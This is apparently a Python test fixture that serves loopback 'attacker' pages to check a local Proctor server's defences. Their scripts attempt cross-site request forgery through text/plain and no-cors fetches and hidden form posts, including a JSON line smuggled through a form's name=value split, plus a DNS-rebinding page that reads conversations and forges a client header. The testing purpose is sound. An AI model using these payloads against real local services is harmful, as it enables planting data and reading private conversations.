"""Another web site on loopback: one page whose script attacks a Proctor server.

The page is what a site the user happens to open could serve. Its script tries, against the
Proctor server at ``target``, every request a page may send to another origin without a
CORS preflight, then writes what it saw to ``window.__attack`` (``{name: status or error}``)
and sets ``window.__done``. ``rebinding_page`` is the page a DNS-rebinding attacker serves
under its own name before that name is pointed at 127.0.0.1: its requests are same-origin.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PLANTED_TEXT = "planted by another site"


def planted_event(conversation_id: str) -> str:
    """One Proctor JSONL message event for ``conversation_id``, as one line."""
    event = {
        "type": "message",
        "conversation_id": conversation_id,
        "message_id": "m1",
        "role": "user",
        "text": PLANTED_TEXT,
    }
    return json.dumps(event) + "\n"


_SCRIPT = """
const P = %(target)s;
const results = {};
async function attempt(name, request) {
  try {
    const response = await request();
    results[name] = response.type === "opaque" ? "opaque" : response.status;
  } catch (error) {
    results[name] = "error: " + error.message;
  }
}
function submitForm(name, action, enctype, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = name;
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.action = action;
    form.enctype = enctype;
    form.target = name;
    for (const [key, value] of fields) {
      const input = document.createElement("input");
      input.type = "hidden";
      input.name = key;
      input.value = value;
      form.append(input);
    }
    document.body.append(form);
    frame.addEventListener("load", () => { results[name] = "submitted"; resolve(); });
    form.submit();
  });
}
(async () => {
  await attempt("text_plain_fetch", () => fetch(P + "/api/intake/events", {
    method: "POST", headers: {"Content-Type": "text/plain"}, body: %(fetch_event)s,
  }));
  await attempt("text_plain_no_cors", () => fetch(P + "/api/intake/events", {
    method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
    body: %(no_cors_event)s,
  }));
  await attempt("untyped_json_body", () => fetch(P + "/api/plans", {
    method: "POST", mode: "no-cors", body: new Blob([%(plan)s]),
  }));
  await attempt("body_less_remove", () => fetch(P + "/api/graph/entity/%(entity)s/remove", {
    method: "POST", mode: "no-cors",
  }));
  await attempt("read_conversations", async () => {
    const response = await fetch(P + "/api/conversations");
    results.read_text = await response.text();
    return response;
  });
  await submitForm("text_plain_form", P + "/api/intake/events", "text/plain",
    [[%(form_name)s, %(form_value)s]]);
  await submitForm("urlencoded_form", P + "/api/graph/entity/%(entity)s/confirm",
    "application/x-www-form-urlencoded", [["x", "1"]]);
  window.__attack = results;
  window.__done = true;
})();
"""

_REBINDING_SCRIPT = """
const results = {};
(async () => {
  for (const path of ["/api/conversations", "/openapi.json"]) {
    try {
      const response = await fetch(path);
      results[path] = response.status;
      results[path + " text"] = await response.text();
    } catch (error) {
      results[path] = "error: " + error.message;
    }
  }
  try {
    const response = await fetch("/api/intake/events", {
      method: "POST", headers: {"Content-Type": "application/x-ndjson", "X-Proctor-Client": "ui"},
      body: %(event)s,
    });
    results.write = response.status;
  } catch (error) {
    results.write = "error: " + error.message;
  }
  window.__attack = results;
  window.__done = true;
})();
"""


def attack_page(target: str, entity_id: str) -> str:
    """The attacking page: ``target`` is the Proctor server's origin."""
    # A text/plain form sends ``name=value``: the name opens a JSON line, the value closes
    # its last string (whose text gains the "=").
    form_line = planted_event("planted-form").rstrip("\n")
    plan = {"name": "planted-plan", "recurrence": "daily", "time": "09:00", "timezone": "UTC"}
    script = _SCRIPT % {
        "target": json.dumps(target),
        "entity": entity_id,
        "fetch_event": json.dumps(planted_event("planted-fetch")),
        "no_cors_event": json.dumps(planted_event("planted-no-cors")),
        "plan": json.dumps(json.dumps(plan)),
        "form_name": json.dumps(form_line[:-2]),
        "form_value": json.dumps(form_line[-2:]),
    }
    return f"<!doctype html><title>a page</title><body><script>{script}</script></body>"


def rebinding_page() -> str:
    """The page a rebinding attacker serves before its name points at 127.0.0.1."""
    script = _REBINDING_SCRIPT % {"event": json.dumps(planted_event("planted-rebinding"))}
    return f"<!doctype html><title>a page</title><body><script>{script}</script></body>"


@contextmanager
def attacker_site(page: str) -> Iterator[int]:
    """Serve ``page`` at ``/`` on a free loopback port for the block; yields the port."""
    body = page.encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)
